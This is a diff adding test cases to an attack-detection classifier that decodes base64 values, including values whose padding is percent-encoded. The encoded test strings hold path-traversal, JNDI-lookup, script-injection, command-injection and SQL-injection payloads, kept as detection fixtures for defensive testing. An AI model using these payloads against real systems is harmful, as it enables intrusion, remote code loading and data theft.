@@ -984,6 +984,9 @@ describe("values that are base64-encoded text, read decoded", () => {
     expect(any("/Li4vLi4vLi4vZXRjL3Bhc3N3ZA")).toBe(AttackClass.Traversal);       // /../../../etc/passwd
     expect(any("JHtqbmRpOmxkYXA6Ly94LmV4YW1wbGUvYX0")).toBe(AttackClass.Jndi);    // ${jndi:ldap://x.example/a}
     expect(any("PDxzY3IAaXB0L3NyYz1odHRwOi8veHNzLmNvbS94c3MuanM-PC9zY3JpcHQ")).toBe(AttackClass.Xss); // NUL inside, URL-safe '-'
+    // Padding percent-encoded, as a query string or form carries it.
+    expect(any("d2hpbGUodHJ1ZSk7Cg%3D%3D")).toBe(AttackClass.Cmdi);               // while(true);⏎
+    expect(any("JyBvciAxPTEtLQ%3d%3d")).toBe(AttackClass.Sqli);
   });
   it("leaves encoded text without an attack, binary, ids and words alone", () => {
     expect(any("U3ByaW5nZmllbGQgaXMgYSBuaWNlIHRvd24")).toBe(AttackClass.None);  // Springfield is a nice town
@@ -993,6 +996,8 @@ describe("values that are base64-encoded text, read decoded", () => {
     expect(any("550e8400e29b41d4a716446655440000")).toBe(AttackClass.None);
     expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg===")).toBe(AttackClass.None);    // three '=' is no base64
     expect(any("PHNjcmlwdD5h=bGVydCgxKTwvc2NyaXB0Pg")).toBe(AttackClass.None);     // '=' inside
+    expect(any("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D%3D")).toBe(AttackClass.None); // three, encoded
+    expect(any("dXNlcj1ib2I%3D")).toBe(AttackClass.None);                           // user=bob
   });
 });
 
